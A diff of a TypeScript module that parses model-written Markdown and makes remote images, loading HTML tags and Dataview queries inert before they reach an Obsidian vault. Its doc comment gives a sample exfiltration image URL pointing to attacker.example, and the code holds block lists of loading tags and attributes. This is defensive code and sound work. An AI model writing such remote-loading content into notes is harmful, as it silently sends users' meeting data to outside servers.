@@ -1,8 +1,9 @@
-import { replaceLinks } from '../names/replace-links.js';
+import { type MarkdownNode, parseMarkdown } from './parse-markdown.js';
 
 /**
  * One piece of model-written Markdown that {@link defuseRemoteContent} made inert.
- * Spec: review6 S17 (remote images in model-written notes: an exfiltration channel); docs/hostile-cases.md S17.
+ * Spec: review6 S17 (remote images in model-written notes: an exfiltration channel); review7 T1;
+ *   docs/hostile-cases.md S17.
  */
 export interface DefusedItem {
   /**
@@ -48,12 +49,19 @@ const LOADING_TAGS = new Set([
   'webview',
 ]);
 
-/** An attribute that makes any element load something (an image, a background, a stylesheet URL). */
-const LOADING_ATTRIBUTE =
-  /(?:^|[\s"'/])(?:src|srcset|background|poster|data|lowsrc|dynsrc|xlink:href|style|formaction)\s*=/i;
-
-/** An HTML start tag: `<name …>` (attributes may span lines; `>` inside quotes not handled: the tag then ends early and is still escaped). */
-const START_TAG = /<([a-zA-Z][a-zA-Z0-9:-]*)((?:\s[^<>]*)?)\/?>/g;
+/** An attribute name that makes any element load something (an image, a background, a stylesheet URL). */
+const LOADING_ATTRIBUTES = new Set([
+  'src',
+  'srcset',
+  'background',
+  'poster',
+  'data',
+  'lowsrc',
+  'dynsrc',
+  'xlink:href',
+  'style',
+  'formaction',
+]);
 
 /**
  * The start of a Dataview inline query in code text (after its leading white space): `$=` (DataviewJS,
@@ -61,54 +69,30 @@ const START_TAG = /<([a-zA-Z][a-zA-Z0-9:-]*)((?:\s[^<>]*)?)\/?>/g;
  * from other notes' fields). Dataview's default prefixes; it evaluates any `<code>` whose trimmed text
  * starts with one, in inline code and (by default) in code blocks alike.
  */
-const INLINE_QUERY = /^(\s*)(?=\$=|=)/;
+const INLINE_QUERY = /^\s*(?:\$=|=)/;
 
-/** An HTML `<code>` start tag whose text (after white space and other tags) starts with an inline query prefix. */
-const CODE_TAG_QUERY = /<code(?=[\s>/])[^<>]*>(?:\s|<[^<>]*>)*(?:\$=|=)/gi;
-
-/**
- * A line that may be an indented code block starting with an inline query prefix: block-quote markers,
- * then white space (at least 4 columns makes it code), then `$=`/`=`.
- */
-const INDENTED_QUERY = /^((?: {0,3}>[ ]?)*)([ \t]*)(?=\$=|=)/;
-
-/** A reference definition line: `[label]: destination …` (up to 3 spaces of indent). */
-const REFERENCE_DEFINITION = /^( {0,3})\[((?:[^\][\\]|\\.){1,999})\]:[ \t]*(\S.*)$/;
-
-/** A reference-style image: `![alt][label]`, `![label][]`, `![label]` (not followed by `(` or `[`… handled below). */
-const REFERENCE_IMAGE = /(^|[^\\])!\[((?:[^\][\\]|\\.)*)\](?:\[((?:[^\][\\]|\\.)*)\])?/g;
+/** A Dataview block's language (the first word of a fence's info string). */
+const QUERY_LANGUAGE = /^(?:dataviewjs|dataview)(?![\w-])/i;
 
 /**
- * Whether an image destination, as Markdown reads it (unescaped, percent-decoded), may load from
- * outside the vault: a URL scheme (`https:`, `ftp:`, also `https:\\` and schemes CommonMark decodes
- * from entities, so any `:` or `&`), or a protocol-relative `//host` / `\\host`. A one-letter
- * scheme is a Windows drive (`C:/…`), local.
+ * Whether an image destination, as Markdown reads it (unescaped, entities decoded), may load from
+ * outside the vault: a URL scheme (`https:`, `ftp:`, also `https:\\`), or a protocol-relative
+ * `//host` / `\\host`. A one-letter scheme is a Windows drive (`C:/…`), local.
+ * @param target - a destination or URL as written after decoding
+ * @returns true when it may load from another machine
+ * Spec: review6 S17; review7 T1.
  */
-function isRemoteTarget(target: string): boolean {
+export function isRemoteTarget(target: string): boolean {
   const t = target.trim();
   if (/^[\\/]{2}/.test(t) || t.includes('&')) return true;
   const colon = t.indexOf(':');
   return colon > 1 || (colon === 1 && !/^[a-z]:[\\/]/i.test(t));
 }
 
-/** Case-folded, whitespace-collapsed reference label (CommonMark label matching). */
-function labelKey(label: string): string {
-  return label.replace(/\s+/g, ' ').trim().toLowerCase();
-}
-
 /** `text` cut to 80 characters for a message. */
 function cut(text: string): string {
   const one = text.replace(/\s+/g, ' ');
   return one.length > 80 ? `${one.slice(0, 79)}…` : one;
-}
-
-/** A character not in `text`, to stand for code spans while the rest is rewritten. */
-function freeMarker(text: string): string {
-  for (let c = 0xe000; c < 0xf8ff; c++) {
-    const ch = String.fromCharCode(c);
-    if (!text.includes(ch)) return ch;
-  }
-  return '\u0000';
 }
 
 /**
@@ -136,159 +120,281 @@ function where(target: string): string {
   }
 }
 
-/** Prose (no fences): images, reference definitions and loading HTML defused; inline code spans untouched. */
-function defuseProse(prose: string, keep: string, out: DefusedItem[]): string {
-  // 0. A line indented as code (4 columns, inside quotes too) starting with a Dataview prefix: escaped
-  // (in a paragraph `\=` and `\$` still show as `=` and `$`).
-  const indented = prose.split('\n').map((line) => {
-    const m = INDENTED_QUERY.exec(line);
-    if (m === null || keep.includes(line)) return line;
-    const ws = m[2] ?? '';
-    const columns = [...ws].reduce((n, ch) => (ch === '\t' ? n + 4 - (n % 4) : n + 1), 0);
-    if (columns < 4) return line;
-    out.push({ kind: 'inline-query', written: cut(line) });
-    return `${line.slice(0, m[0].length)}\\${line.slice(m[0].length)}`;
-  });
-  // Inline code spans render as text: kept as they are (stood in for by a marker meanwhile), but a
-  // Dataview inline query (`` `$= …` ``, `` `= …` ``) gets its prefix escaped so no plugin runs it.
-  const marker = freeMarker(prose);
-  const spans: string[] = [];
-  let text = indented.join('\n').replace(/(`+)(?:(?!\1)[\s\S])*?[^`]\1(?!`)/g, (span, ticks: string) => {
-    const query = INLINE_QUERY.exec(span.slice(ticks.length));
-    if (query !== null && !keep.includes(span)) {
-      out.push({ kind: 'inline-query', written: cut(span) });
-      const at = ticks.length + (query[1]?.length ?? 0);
-      spans.push(`${span.slice(0, at)}\\${span.slice(at)}`);
-    } else spans.push(span);
-    return `${marker}${spans.length - 1}${marker}`;
-  });
-  // 1. Inline images `![alt](https://…)`: a plain link `[alt](…)` (`[image: host/path](…)` without alt text).
-  text = replaceLinks(text, (found, written) => {
-    if (!found.embed || found.link.form !== 'markdown' || !isRemoteTarget(found.link.target)) return written;
-    if (keep.includes(written)) return written;
-    out.push({ kind: 'image', written: cut(written) });
-    const { inner, rest } = splitImage(written);
-    return `[${inner.trim() === '' ? `image: ${where(found.link.target)}` : inner}]${rest}`;
-  });
-  // 2. Reference-style images whose definition is remote: the definition escaped (`\[ref]: …`), so
-  // Markdown no longer resolves it and the image reads as its text.
-  const imageLabels = new Set<string>();
-  for (const m of text.matchAll(REFERENCE_IMAGE)) {
-    const label = m[3] !== undefined && m[3].trim() !== '' ? m[3] : (m[2] ?? '');
-    if (label.trim() !== '') imageLabels.add(labelKey(label));
-  }
-  if (imageLabels.size > 0) {
-    text = text
-      .split('\n')
-      .map((line) => {
-        const def = REFERENCE_DEFINITION.exec(line);
-        if (def === null || !imageLabels.has(labelKey(def[2] ?? ''))) return line;
-        const dest = (def[3] ?? '').replace(/^<([^>]*)>.*$/, '$1').split(/\s/)[0] ?? '';
-        if (!isRemoteTarget(dest) || keep.includes(line)) return line;
-        out.push({ kind: 'reference', written: cut(line) });
-        return `${def[1]}\\${line.slice((def[1] ?? '').length)}`;
-      })
-      .join('\n');
-  }
-  // 3. HTML that loads something: the tag's `<` written as `&lt;`, so it shows as text.
-  text = text.replace(START_TAG, (tag, name: string, attributes: string) => {
-    if (!LOADING_TAGS.has(name.toLowerCase()) && !LOADING_ATTRIBUTE.test(attributes)) return tag;
-    if (keep.includes(tag)) return tag;
-    out.push({ kind: 'html', written: cut(tag) });
-    return `&lt;${tag.slice(1)}`;
-  });
-  // 4. An HTML `<code>` holding a Dataview inline query: escaped like a loading tag.
-  text = text.replace(CODE_TAG_QUERY, (tag) => {
-    if (keep.includes(tag)) return tag;
-    out.push({ kind: 'inline-query', written: cut(tag) });
-    return `&lt;${tag.slice(1)}`;
-  });
-  return spans.length === 0
-    ? text
-    : text.replace(new RegExp(`${marker}(\\d+)${marker}`, 'g'), (_m, i: string) => spans[Number(i)] ?? '');
+/** One HTML start tag found in raw HTML: its offset (of `<`), its source, name and attribute names (lower case). */
+interface StartTag {
+  at: number;
+  source: string;
+  name: string;
+  attributes: string[];
 }
+
+/**
+ * The start tags in `html` as a browser's tokenizer reads them (HTML's tag open, attribute name and
+ * value states): `<` then a letter opens a tag; `/` and white space separate attributes (`<img/src=…>`);
+ * quoted values may hold `<` and `>` (`alt="a<b"`); a tag not closed by `>` runs to the end.
+ * Comments, `<!…>` and `<?…>` are skipped; end tags are not returned.
+ */
+function startTags(html: string, base: number): StartTag[] {
+  const tags: StartTag[] = [];
+  let i = 0;
+  while (i < html.length) {
+    const lt = html.indexOf('<', i);
+    if (lt < 0) break;
+    if (html.startsWith('<!--', lt)) {
+      const end = html.indexOf('-->', lt + 4);
+      i = end < 0 ? html.length : end + 3;
+      continue;
+    }
+    if (!/[a-zA-Z]/.test(html.charAt(lt + 1))) {
+      i = lt + 1;
+      continue;
+    }
+    let j = lt + 1;
+    while (j < html.length && !/[\s/>]/.test(html.charAt(j))) j++;
+    const name = html.slice(lt + 1, j).toLowerCase();
+    const attributes: string[] = [];
+    for (;;) {
+      while (j < html.length && /[\s/]/.test(html.charAt(j))) j++;
+      if (j >= html.length || html.charAt(j) === '>') break;
+      const nameStart = j;
+      j++; // an attribute name may start with `=` (HTML: a parse error, taken as part of the name)
+      while (j < html.length && !/[\s/>=]/.test(html.charAt(j))) j++;
+      attributes.push(html.slice(nameStart, j).toLowerCase());
+      while (j < html.length && /\s/.test(html.charAt(j))) j++;
+      if (html.charAt(j) !== '=') continue;
+      j++;
+      while (j < html.length && /\s/.test(html.charAt(j))) j++;
+      const quote = html.charAt(j);
+      if (quote === '"' || quote === "'") {
+        const close = html.indexOf(quote, j + 1);
+        j = close < 0 ? html.length : close + 1;
+      } else while (j < html.length && !/[\s>]/.test(html.charAt(j))) j++;
+    }
+    const end = Math.min(j + 1, html.length);
+    tags.push({ at: base + lt, source: html.slice(lt, end), name, attributes });
+    i = end;
+  }
+  return tags;
+}
+
+/** Whether a start tag loads or runs something when rendered. */
+function loads(tag: StartTag): boolean {
+  return LOADING_TAGS.has(tag.name) || tag.attributes.some((a) => LOADING_ATTRIBUTES.has(a));
+}
+
+/** One change to the text: `[from, to)` replaced with `insert`. */
+interface Edit {
+  from: number;
+  to: number;
+  insert: string;
+}
+
+/** A found item: what it is, how to make it inert, and its key for `keep` (the same key: the file held it). */
+interface Found {
+  kind: DefusedItem['kind'];
+  written: string;
+  key: string;
+  edit: Edit;
+}
+
+/** Every node of `root`, depth first, in document order. */
+function* walk(root: MarkdownNode): Generator<MarkdownNode> {
+  yield root;
+  for (const child of root.children ?? []) yield* walk(child);
+}
+
+/** Offset of the first character at or after `from` that is neither white space nor a block-quote marker. */
+function skipContainer(text: string, from: number, to: number): number {
+  let i = from;
+  while (i < to && /[\s>]/.test(text.charAt(i))) i++;
+  return i;
+}
+
+/**
+ * Everything in `text` (parsed as CommonMark + GFM) that loads from the web or runs when Obsidian
+ * shows it, with the edit that makes each inert. Loading HTML is looked for in HTML nodes and, as a
+ * second line of defence for renderers laxer than CommonMark, in plain text too (a `<` escaped with
+ * a backslash excepted); never in code.
+ */
+function findItems(text: string, root: MarkdownNode): Found[] {
+  const found: Found[] = [];
+  const nodes = [...walk(root)];
+  const imageLabels = new Set(
+    nodes.filter((n) => n.type === 'imageReference').map((n) => n.identifier ?? ''),
+  );
+  // Unresolved references stay text in the tree: their labels count for the swallowed definitions below.
+  for (const n of nodes) {
+    const s = n.position?.start.offset;
+    const e = n.position?.end.offset;
+    if (n.type !== 'text' || s === undefined || e === undefined) continue;
+    for (const m of text.slice(s, e).matchAll(/!\[((?:[^\][\\]|\\.)*)\](?:\[((?:[^\][\\]|\\.)*)\])?/g)) {
+      const label = m[2] !== undefined && m[2].trim() !== '' ? m[2] : (m[1] ?? '');
+      if (label.trim() !== '') imageLabels.add(label.replace(/\s+/g, ' ').trim().toLowerCase());
+    }
+  }
+  for (const node of nodes) {
+    const from = node.position?.start.offset;
+    const to = node.position?.end.offset;
+    if (from === undefined || to === undefined) continue;
+    const source = text.slice(from, to);
+    if (node.type === 'image' && isRemoteTarget(node.url ?? '')) {
+      const { inner, rest } = splitImage(source);
+      const label = inner.trim() === '' ? `image: ${where(node.url ?? '')}` : inner;
+      found.push({
+        kind: 'image',
+        written: cut(source),
+        key: `image ${node.url}`,
+        edit: { from, to, insert: `[${label}]${rest}` },
+      });
+    } else if (
+      node.type === 'definition' &&
+      imageLabels.has(node.identifier ?? '') &&
+      isRemoteTarget(node.url ?? '')
+    ) {
+      found.push({
+        kind: 'reference',
+        written: cut(source),
+        key: `reference ${node.identifier} ${node.url}`,
+        edit: { from, to: from, insert: '\\' },
+      });
+    } else if (node.type === 'html' || node.type === 'text') {
+      // A definition line a paragraph swallowed (no blank line before it) does not resolve in
+      // CommonMark; escaped all the same, for renderers that read it as a definition.
+      if (node.type === 'text')
+        for (const m of source.matchAll(/(^|\n)([ \t>]*)\[((?:[^\][\\]|\\.){1,999})\]:[ \t]*(\S+)/g)) {
+          const label = (m[3] ?? '').replace(/\s+/g, ' ').trim().toLowerCase();
+          const url = (m[4] ?? '').replace(/^<|>$/g, '');
+          if (!imageLabels.has(label) || !isRemoteTarget(url)) continue;
+          const at = from + (m.index ?? 0) + (m[1] ?? '').length + (m[2] ?? '').length;
+          found.push({
+            kind: 'reference',
+            written: cut(m[0].trim()),
+            key: `reference ${label} ${url}`,
+            edit: { from: at, to: at, insert: '\\' },
+          });
+        }
+      for (const tag of startTags(source, from)) {
+        if (node.type === 'text' && /(^|[^\\])(\\\\)*\\$/.test(text.slice(from, tag.at))) continue;
+        const edit = { from: tag.at, to: tag.at + 1, insert: '&lt;' };
+        if (loads(tag))
+          found.push({ kind: 'html', written: cut(tag.source), key: `html ${tag.source}`, edit });
+        else if (
+          tag.name === 'code' &&
+          INLINE_QUERY.test(text.slice(tag.at + tag.source.length).replace(/^(?:\s|<[^<>]*>)*/, ''))
+        )
+          found.push({ kind: 'inline-query', written: cut(tag.source), key: `code ${tag.source}`, edit });
+      }
+    } else if (node.type === 'inlineCode' && INLINE_QUERY.test(node.value ?? '')) {
+      const at = skipContainer(text, from + (/^`+/.exec(source)?.[0].length ?? 0), to);
+      found.push({
+        kind: 'inline-query',
+        written: cut(source),
+        key: `inline-query ${node.value}`,
+        edit: { from: at, to: at, insert: '\\' },
+      });
+    } else if (node.type === 'code') {
+      const fenced = /^[`~]{3,}/.exec(source);
+      if (fenced !== null && QUERY_LANGUAGE.test(node.lang ?? '')) {
+        const at =
+          from + fenced[0].length + (/^[ \t]*/.exec(source.slice(fenced[0].length))?.[0].length ?? 0);
+        found.push({
+          kind: 'query',
+          written: cut(source.split('\n')[0] ?? ''),
+          key: `query ${node.lang} ${node.value}`,
+          edit: { from: at, to: at, insert: 'defused-' },
+        });
+      } else if (INLINE_QUERY.test(node.value ?? '')) {
+        const contentFrom = fenced === null ? from : from + source.indexOf('\n') + 1;
+        const at = skipContainer(text, contentFrom, to);
+        if (/^(?:\$=|=)/.test(text.slice(at, at + 2)))
+          found.push({
+            kind: 'inline-query',
+            written: cut(text.slice(at, text.indexOf('\n', at) < 0 ? to : text.indexOf('\n', at))),
+            key: `inline-query ${node.value}`,
+            edit: { from: at, to: at, insert: '\\' },
+          });
+      }
+    }
+  }
+  return found;
+}
+
+/** `text` with `edits` applied (sorted; an edit overlapping an earlier one is left for the next pass). */
+function applyEdits(text: string, edits: Edit[]): string {
+  const sorted = [...edits].sort((a, b) => a.from - b.from || a.to - b.to);
+  let out = '';
+  let at = 0;
+  for (const e of sorted) {
+    if (e.from < at) continue;
+    out += text.slice(at, e.from) + e.insert;
+    at = e.to;
+  }
+  return out + text.slice(at);
+}
+
+/** How many parse-and-rewrite passes at most (a rewrite can uncover a second item: a duplicate definition, an image in an image's text). */
+const MAX_PASSES = 8;
 
 /**
  * Makes model-written Markdown inert in Obsidian before it is written into the vault: nothing in it
  * may load from the web (or run) when the note is shown, since a URL the model writes can carry
  * meeting content to any server (`![](https://attacker.example/p.png?q=<decisions>)`), from every
- * device the vault syncs to, with no click. Keeps the text readable:
+ * device the vault syncs to, with no click. The text is PARSED (CommonMark + GFM, `micromark`, loaded
+ * on the first call), so every form Markdown renders is found wherever it is (in block quotes and
+ * callouts, list items, tables, footnotes; not in code spans or code blocks); only the found items'
+ * source ranges are rewritten, every other byte stays. Keeps the text readable:
  * - a remote Markdown image `![alt](https://…)` becomes the plain link `[alt](https://…)`
  *   (`[image: host/path](…)` when it had no alt text); local images (`![](diagram.png)`) and
  *   `![[embeds]]` stay;
  * - a reference-style image (`![x][ref]`, `![ref][]`, `![ref]`) whose definition `[ref]: https://…`
- *   is remote: the definition is escaped (`\[ref]: …`), so both read as text;
- * - an HTML start tag of an element that loads or runs something (`<img>`, `<iframe>`, `<video>`,
- *   `<audio>`, `<source>`, `<object>`, `<embed>`, `<link>`, `<style>`, `<svg>`, …) or with an attribute
- *   that does (`src`, `srcset`, `background`, `poster`, `data`, `style`, …): its `<` becomes `&lt;`, so
- *   the tag shows as text;
- * - a ```` ```dataviewjs ```` / ```` ```dataview ```` code block (run by the Dataview plugin when shown):
- *   its language becomes `defused-dataviewjs` / `defused-dataview`, shown as code;
+ *   is remote: every such definition is escaped (`\[ref]: …`), so both read as text;
+ * - an HTML start tag (HTML's own tokenizing: `<img/src=…>`, `alt="a<b"`) of an element that loads
+ *   or runs something (`<img>`, `<iframe>`, `<video>`, `<audio>`, `<source>`, `<object>`, `<embed>`,
+ *   `<link>`, `<style>`, `<svg>`, …) or with an attribute that does (`src`, `srcset`, `background`,
+ *   `poster`, `data`, `style`, …): its `<` becomes `&lt;`, so the tag shows as text;
+ * - a ```` ```dataviewjs ```` / ```` ```dataview ```` code block (run by the Dataview plugin when shown),
+ *   also inside a callout or a list item: its language becomes `defused-dataviewjs` / `defused-dataview`;
  * - a Dataview inline query, i.e. code whose text starts with `$=` (JavaScript) or `=` (DQL; its value is
  *   rendered as Markdown, so it can build a remote image from other notes): an inline code span
- *   (`` `$= dv.…` `` → `` `\$= dv.…` ``), the first line of a fenced code block, a line indented as code,
- *   an HTML `<code>` (its `<` becomes `&lt;`). Dataview's default prefixes; a vault that configured
- *   other prefixes is not covered.
- * Code blocks and inline code spans are otherwise left alone (they render as text). Line count and
- * line breaks never change, so line numbers of a write stay valid. Idempotent. Pure; never throws.
+ *   (`` `$= dv.…` `` → `` `\$= dv.…` ``), the first line of a code block, an HTML `<code>` (its `<`
+ *   becomes `&lt;`). Dataview's default prefixes; a vault that configured other prefixes is not covered.
+ * Rewritten text is parsed again until nothing is left (a second definition of the same label, an
+ * image in an image's text). Line count and line breaks never change, so line numbers of a write stay
+ * valid. Idempotent; never throws for any text.
  *
  * @param text - Markdown the model wrote (a summary body, context notes, a project file, a saved prompt)
- * @param opts - `keep`: text already in the file before the write (a user's own images there stay):
- *   an image, tag or definition written exactly as in `keep` is left alone
+ * @param opts - `keep`: the file's text before the write (a user's own images there stay): an item
+ *   whose parsed form the old text already held as such (the same image URL as an image, the same
+ *   definition of an image, the same loading tag, the same Dataview block or query) is left alone,
+ *   wherever it is now; text the old file held only as code or plain text is no such item (review7 T1)
  * @returns the defused text and the items changed, in order (empty: `text` unchanged)
- * Spec: review6 S17; docs/hostile-cases.md S17; the offline engine's rule (transcript embeds become links,
- *   tags dropped) applied to every write of model text.
+ * Spec: review6 S17; review7 T1 (a Markdown parse, not a regex pass); docs/hostile-cases.md S17; the
+ *   offline engine's rule (transcript embeds become links, tags dropped) applied to every write of model text.
  */
-export function defuseRemoteContent(
+export async function defuseRemoteContent(
   text: string,
   opts: { keep?: string } = {},
-): { text: string; defused: DefusedItem[] } {
+): Promise<{ text: string; defused: DefusedItem[] }> {
   const defused: DefusedItem[] = [];
-  if (!/[<!=]|```|~~~/.test(text)) return { text, defused };
-  const keep = opts.keep ?? '';
-  const lines = text.split('\n');
-  const out: string[] = [];
-  let prose: string[] = [];
-  const flush = () => {
-    if (prose.length > 0) out.push(defuseProse(prose.join('\n'), keep, defused));
-    prose = [];
-  };
-  let fence: { char: string; length: number; content: boolean } | null = null;
-  for (const line of lines) {
-    if (fence === null) {
-      const open = /^( {0,3})(`{3,}|~{3,})(.*)$/.exec(line);
-      if (open === null || (open[2]?.startsWith('`') && open[3]?.includes('`'))) {
-        prose.push(line);
-        continue;
-      }
-      flush();
-      const marks = open[2] as string;
-      fence = { char: marks.charAt(0), length: marks.length, content: false };
-      const info = open[3] as string;
-      const query = /^(\s*)(dataviewjs|dataview)(?![\w-])/i.exec(info);
-      if (query !== null && !keep.includes(line)) {
-        defused.push({ kind: 'query', written: cut(line) });
-        out.push(`${open[1]}${marks}${query[1]}defused-${info.slice(query[1]?.length ?? 0)}`);
-      } else out.push(line);
-      continue;
-    }
-    const close = /^ {0,3}(`{3,}|~{3,})\s*$/.exec(line);
-    if (close !== null && close[1]?.charAt(0) === fence.char && (close[1]?.length ?? 0) >= fence.length) {
-      out.push(line);
-      fence = null;
-      continue;
-    }
-    // The block's text starts with a Dataview inline query prefix: Dataview evaluates it (by default).
-    const query = fence.content || line.trim() === '' ? null : INLINE_QUERY.exec(line);
-    if (line.trim() !== '') fence.content = true;
-    if (query !== null && !keep.includes(line)) {
-      defused.push({ kind: 'inline-query', written: cut(line) });
-      const at = query[1]?.length ?? 0;
-      out.push(`${line.slice(0, at)}\\${line.slice(at)}`);
-    } else out.push(line);
+  if (!/[<!=]|```|~~~|^( {4}|\t)/m.test(text)) return { text, defused };
+  const parse = await parseMarkdown();
+  const kept = new Set(
+    opts.keep === undefined || opts.keep === ''
+      ? []
+      : findItems(opts.keep, parse(opts.keep)).map((f) => f.key),
+  );
+  let current = text;
+  for (let pass = 0; pass < MAX_PASSES; pass++) {
+    const found = findItems(current, parse(current)).filter((f) => !kept.has(f.key));
+    if (found.length === 0) return { text: defused.length === 0 ? text : current, defused };
+    for (const f of found) defused.push({ kind: f.kind, written: f.written });
+    current = applyEdits(
+      current,
+      found.map((f) => f.edit),
+    );
   }
-  flush();
-  return { text: defused.length === 0 ? text : out.join('\n'), defused };
+  // Never reached by any text seen: every `<` shown as text and every image mark dropped.
+  return { text: current.replace(/</g, '&lt;').replace(/!\[/g, '['), defused };
 }
 
 /**
